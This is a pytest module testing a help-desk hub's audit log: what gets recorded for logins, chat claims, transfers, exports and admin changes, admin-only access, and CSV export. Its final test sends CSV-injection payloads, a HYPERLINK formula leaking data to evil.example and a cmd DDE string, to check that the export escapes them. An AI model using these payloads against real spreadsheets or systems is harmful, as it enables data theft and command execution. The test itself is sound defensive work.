"""The audit log, through the routes of a real hub (SQLite, then PostgreSQL): every login, claim,
transfer, close, export, article publish, user and team change appears with who, when, what and
from where once it has happened; only admins read it, and its CSV opens safely in a spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import pytest

from handoff.audit import CLI, AuditAction, record_audit
from hub.operations import report
from tests.support import AgentClient, RunningHub, WidgetCustomer, queueing_hub

ANA = ("ana@loja.test", "ana-password-1", "agent", ["geral"])
BIA = ("bia@loja.test", "bia-password-1", "agent", ["geral"])
EDU = ("edu@loja.test", "edu-password-1", "editor", ["geral"])
VERA = ("vera@loja.test", "vera-password-1", "supervisor", [])
ADA = ("ada@loja.test", "ada-password-1", "admin", [])
PROXIED = "203.0.113.7"  # the client a trusted proxy (127.0.0.1 here) says it forwards for
BROWSER = "Mozilla/5.0 (audit test) " + "x" * 400


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def audited_hub(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, index_cache: Path
) -> Iterator[RunningHub]:
    """A hub behind a trusted proxy (127.0.0.1) whose Rasa never answers: a customer's first
    message queues the chat for `geral`. Its staff are created with `balcao user add`."""
    tmp = tmp_path_factory.mktemp(f"audit-{request.param}")
    with queueing_hub(
        request.param, tmp, cache_dir=index_cache, staff=(ANA, BIA, EDU, VERA, ADA), trusted_proxies=["127.0.0.1"]
    ) as hub:
        yield hub


async def logged_in(hub: RunningHub, account: tuple, *, forwarded_for: str | None = None) -> AgentClient:
    """A staff member's API client, with a browser's user agent, maybe behind the trusted proxy."""
    client = AgentClient(hub.url, account[0], account[1])
    headers = {"User-Agent": BROWSER} | ({"X-Forwarded-For": forwarded_for} if forwarded_for else {})
    client.http = httpx.AsyncClient(base_url=hub.url, timeout=30, headers=headers)
    r = await client.http.post("/api/auth/login", json={"email": account[0], "password": account[1]})
    r.raise_for_status()
    client.http.headers["X-CSRF-Token"] = r.json()["csrf_token"]
    return client


@pytest.fixture
async def ada(audited_hub: RunningHub) -> AsyncIterator[AgentClient]:
    """Ada, the admin who reads the log."""
    client = await logged_in(audited_hub, ADA)
    yield client
    await client.aclose()


async def entries(admin: AgentClient, **filters: object) -> list[dict]:
    """The log as the admin reads it (newest first), filtered."""
    r = await admin.http.get("/api/admin/audit", params={"limit": 500, **filters})
    assert r.status_code == 200, r.text
    return r.json()["entries"]


async def entry_for(admin: AgentClient, action: str, target_id: str) -> dict:
    """The newest entry of ``action`` on ``target_id``."""
    found = [e for e in await entries(admin, action=action) if e["target_id"] == target_id]
    assert found, f"no {action} of {target_id} in the audit log"
    return found[0]


def user_id(admin_entries: list[dict], email: str) -> int:
    """A user's id, as their `user add` entry names it."""
    return next(int(e["target_id"]) for e in admin_entries if e["details"] and e["details"].get("email") == email)


def recent(entry: dict) -> bool:
    return datetime.now(UTC) - datetime.fromisoformat(entry["at"]) < timedelta(minutes=5)


async def test_users_added_on_the_command_line_are_recorded_as_the_cli(audited_hub: RunningHub, ada: AgentClient) -> None:
    added = await entries(ada, action="user_add")
    ana = next(e for e in added if e["details"]["email"] == ANA[0])
    assert (ana["actor"], ana["actor_id"], ana["actor_name"], ana["target_type"]) == ("cli", None, None, "user")
    assert ana["details"] == {"email": ANA[0], "role": "agent", "teams": ["geral"]}
    assert ana["client_ip"] is None and recent(ana)


async def test_logins_failed_logins_and_logouts_say_who_and_from_where(audited_hub: RunningHub, ada: AgentClient) -> None:
    ana = await logged_in(audited_hub, ANA, forwarded_for=PROXIED)
    try:
        out = await ana.http.post("/api/auth/logout")  # logging out is a POST with the CSRF token
        assert out.status_code == 204
    finally:
        await ana.aclose()
    async with httpx.AsyncClient(base_url=audited_hub.url, headers={"User-Agent": "curl/8"}) as stranger:
        refused = await stranger.post("/api/auth/login", json={"email": "Ana@Loja.test", "password": "not-her-password"})
        assert refused.status_code == 401
        form = await stranger.get("/login")
        csrf = form.text.split('name="csrf_token" value="')[1].split('"')[0]
        again = await stranger.post("/login", data={"email": "nobody@loja.test", "password": "guess-123", "csrf_token": csrf})
        assert again.status_code == 401

    login = (await entries(ada, action="login", actor=ANA[0]))[0]
    assert (login["actor"], login["actor_name"], login["target_type"]) == (ANA[0], "Ana", "user")
    assert login["target_id"] == str(login["actor_id"])
    assert login["client_ip"] == PROXIED  # BALCAO_TRUSTED_PROXIES honoured: the proxy's client, not the proxy
    assert login["user_agent"] == BROWSER[:255] and recent(login)
    logout = (await entries(ada, action="logout", actor=ANA[0]))[0]
    assert (logout["actor_id"], logout["client_ip"]) == (login["actor_id"], PROXIED)

    failed = await entries(ada, action="login_failed")
    tried = {e["target_id"]: e for e in failed}
    assert {"Ana@Loja.test", "nobody@loja.test"} <= set(tried)
    wrong = tried["Ana@Loja.test"]
    assert (wrong["actor"], wrong["actor_id"], wrong["target_type"]) == ("anonymous", None, "email")
    assert (wrong["client_ip"], wrong["user_agent"]) == ("127.0.0.1", "curl/8")  # no X-Forwarded-For: the peer
    assert all("not-her-password" not in str(e) and "guess-123" not in str(e) for e in failed)  # never a password


async def test_claims_transfers_and_closes_are_recorded_with_the_chat_and_its_teams(
    audited_hub: RunningHub, ada: AgentClient
) -> None:
    customer = await WidgetCustomer(audited_hub.url).connect()
    await customer.say("oi, preciso de ajuda")
    await customer.close()
    ana = await logged_in(audited_hub, ANA, forwarded_for=PROXIED)
    bia = await logged_in(audited_hub, BIA)
    try:
        chat = next(c for c in await ana.queue() if c["customer_id"] == customer.customer_id)["id"]
        assert (await ana.claim(chat)).status_code == 200
        bia_id = (await bia.http.get("/api/me")).json()["id"]
        moved = await ana.http.post(f"/api/agent/conversations/{chat}/transfer", json={"agent_id": bia_id, "note": "troca"})
        assert moved.status_code == 200
        assert (await bia.close(chat)).status_code == 200
    finally:
        await ana.aclose()
        await bia.aclose()

    claim = await entry_for(ada, "claim", chat)
    ana_id = claim["actor_id"]
    assert (claim["actor"], claim["target_type"], claim["details"], claim["client_ip"]) == (
        ANA[0],
        "conversation",
        {"team": "geral"},
        PROXIED,
    )
    transfer = await entry_for(ada, "transfer", chat)
    assert (transfer["actor"], transfer["details"]) == (
        ANA[0],
        {"from_team": "geral", "from_agent": ana_id, "to_team": "geral", "to_agent": bia_id},
    )
    close = await entry_for(ada, "close", chat)
    assert (close["actor"], close["actor_id"], close["details"]) == (BIA[0], bia_id, {"reason": "resolved", "team": "geral"})
    assert close["client_ip"] == "127.0.0.1"
    # Newest first: the close, then the transfer, then the claim.
    order = [e["action"] for e in await entries(ada) if e["target_id"] == chat]
    assert order == ["close", "transfer", "claim"]


async def test_exports_are_recorded_with_their_filters(audited_hub: RunningHub, ada: AgentClient) -> None:
    vera = await logged_in(audited_hub, VERA)
    try:
        csv_export = await vera.http.get("/api/insights/export/surveys.csv", params={"language": "en", "from": "2026-01-01"})
        assert csv_export.status_code == 200
        assert (await vera.http.get("/api/insights/report", params={"channel": "widget"})).status_code == 200
    finally:
        await vera.aclose()
    await asyncio.to_thread(
        lambda: asyncio.run(
            report(audited_hub.settings, start="2026-03-01", end="2026-03-31", fmt="csv", table="teams", filters={})
        )
    )

    surveys = await entry_for(ada, "export", "surveys")
    assert (surveys["actor"], surveys["target_type"]) == (VERA[0], "table")
    assert surveys["details"]["format"] == "csv" and surveys["details"]["language"] == "en"
    assert surveys["details"]["from"] == "2026-01-01"
    as_json = await entry_for(ada, "export", "report")
    assert (as_json["actor"], as_json["details"]["format"], as_json["details"]["channel"]) == (VERA[0], "json", "widget")
    on_the_command_line = await entry_for(ada, "export", "teams")
    assert (on_the_command_line["actor"], on_the_command_line["actor_id"]) == ("cli", None)
    assert on_the_command_line["details"] == {"format": "csv", "from": "2026-03-01", "to": "2026-03-31"}


async def test_articles_published_unpublished_and_deleted_are_recorded(audited_hub: RunningHub, ada: AgentClient) -> None:
    article = f"auditoria-{uuid.uuid4().hex[:6]}"
    edu = await logged_in(audited_hub, EDU)
    try:
        created = await edu.http.post(
            "/api/kb/articles",
            json={"id": article, "lang": "pt-BR", "title": "Troca de senha", "body": "Clique em *Esqueci a senha*."},
        )
        assert created.status_code == 201, created.text
        for step in ("publish", "unpublish"):
            assert (await edu.http.post(f"/api/kb/articles/{article}/pt-BR/{step}")).status_code == 200
        assert (await edu.http.delete(f"/api/kb/articles/{article}/pt-BR")).status_code == 204
    finally:
        await edu.aclose()

    target = f"{article}/pt-BR"
    steps = [(e["action"], e["actor"], e["target_type"]) for e in await entries(ada) if e["target_id"] == target]
    assert steps == [
        ("article_delete", EDU[0], "article"),
        ("article_unpublish", EDU[0], "article"),
        ("article_publish", EDU[0], "article"),
    ]
    deleted = await entry_for(ada, "article_delete", target)
    assert deleted["details"]["title"] == "Troca de senha"  # the article and its history are gone; the log keeps this


async def test_team_changes_record_what_changed(audited_hub: RunningHub, ada: AgentClient) -> None:
    changed = await ada.http.put("/api/admin/teams/financeiro", json={"sla_seconds": 95, "assignment": "auto"})
    assert changed.status_code == 200
    entry = await entry_for(ada, "team_change", "financeiro")
    assert (entry["actor"], entry["actor_name"], entry["target_type"]) == (ADA[0], "Ada", "team")
    assert entry["details"] == {"changed": {"sla_seconds": [60, 95], "assignment": ["pick", "auto"]}}


async def test_only_admins_read_the_log(audited_hub: RunningHub) -> None:
    async with httpx.AsyncClient(base_url=audited_hub.url) as anonymous:
        assert (await anonymous.get("/api/admin/audit")).status_code == 401
        assert (await anonymous.get("/api/admin/audit.csv")).status_code == 401
    for account in (ANA, EDU, VERA):
        client = await logged_in(audited_hub, account)
        try:
            assert (await client.http.get("/api/admin/audit")).status_code == 403
            assert (await client.http.get("/api/admin/audit.csv")).status_code == 403
        finally:
            await client.aclose()


async def test_filters_by_local_day_actor_and_action_and_pages_newest_first(audited_hub: RunningHub, ada: AgentClient) -> None:
    zone = ZoneInfo(audited_hub.settings.report_timezone)
    log = await entries(ada)
    # The local days the log spans (the staff were added when the module began, maybe before midnight).
    first_day, last_day = (datetime.fromisoformat(log[i]["at"]).astimezone(zone).date() for i in (-1, 0))
    added_day = datetime.fromisoformat((await entries(ada, action="user_add"))[0]["at"]).astimezone(zone).date()
    assert await entries(ada, **{"from": added_day.isoformat(), "to": added_day.isoformat(), "action": "user_add"})
    assert await entries(ada, **{"from": (last_day + timedelta(days=1)).isoformat()}) == []
    assert await entries(ada, to=(first_day - timedelta(days=1)).isoformat()) == []
    only_ada = await entries(ada, actor="ADA@loja.test")
    assert only_ada and {e["actor"] for e in only_ada} == {ADA[0]}
    assert (await ada.http.get("/api/admin/audit", params={"action": "nonsense"})).status_code == 422
    bad_period = {"from": last_day.isoformat(), "to": (last_day - timedelta(days=3)).isoformat()}
    assert (await ada.http.get("/api/admin/audit", params=bad_period)).status_code == 422

    first = (await ada.http.get("/api/admin/audit", params={"limit": 2})).json()
    second = (await ada.http.get("/api/admin/audit", params={"limit": 2, "offset": first["next_offset"]})).json()
    everything = await entries(ada)
    assert first["next_offset"] == 2
    assert [e["id"] for e in first["entries"] + second["entries"]] == [e["id"] for e in everything[:4]]
    times = [e["at"] for e in everything]
    assert times == sorted(times, reverse=True)


async def test_an_evening_entry_is_listed_under_its_local_day_though_utc_has_turned_the_page(
    audited_hub: RunningHub, ada: AgentClient
) -> None:
    """A team changed at 22:30 in the desk's time zone (São Paulo: 01:30 UTC the next day) is found
    under the local day the admin remembers, on SQLite as on PostgreSQL, and not under the next."""
    evening = datetime(2026, 3, 10, 22, 30, tzinfo=ZoneInfo(audited_hub.settings.report_timezone))
    assert evening.astimezone(UTC).date() == date(2026, 3, 11)  # the premise: UTC is already on the next day

    async def change_a_team_that_evening() -> None:
        async with audited_hub.app.state.desk.unit_of_work() as session:
            entry = await record_audit(session, actor=CLI, action=AuditAction.TEAM_CHANGE, target_type="team", target_id="noite")
            entry.at = evening

    audited_hub.call(change_a_team_that_evening)
    that_day = await entries(ada, **{"from": "2026-03-10", "to": "2026-03-10"})
    assert [(e["action"], e["target_id"]) for e in that_day] == [("team_change", "noite")]
    assert datetime.fromisoformat(that_day[0]["at"]) == evening
    assert await entries(ada, **{"from": "2026-03-11", "to": "2026-03-11"}) == []


async def test_the_csv_neutralises_a_formula_tried_as_an_e_mail_and_is_itself_audited(
    audited_hub: RunningHub, ada: AgentClient
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")@x'
    async with httpx.AsyncClient(base_url=audited_hub.url, headers={"User-Agent": "+cmd|' /C calc'!A0"}) as attacker:
        assert (await attacker.post("/api/auth/login", json={"email": evil, "password": "whatever-1"})).status_code == 401

    exported = await ada.http.get("/api/admin/audit.csv", params={"action": "login_failed"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and {r["action"] for r in rows} == {"login_failed"}
    row = next(r for r in rows if evil in r["target_id"])
    assert row["target_id"] == "'" + evil  # shown as text, never run as a formula
    assert row["user_agent"] == "'+cmd|' /C calc'!A0"
    assert row["actor"] == "anonymous" and row["at"].endswith("+00:00")
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell)

    export = (await entries(ada, action="export", actor=ADA[0]))[0]
    assert (export["target_type"], export["target_id"], export["details"]) == ("audit", "audit.csv", {"action": "login_failed"})
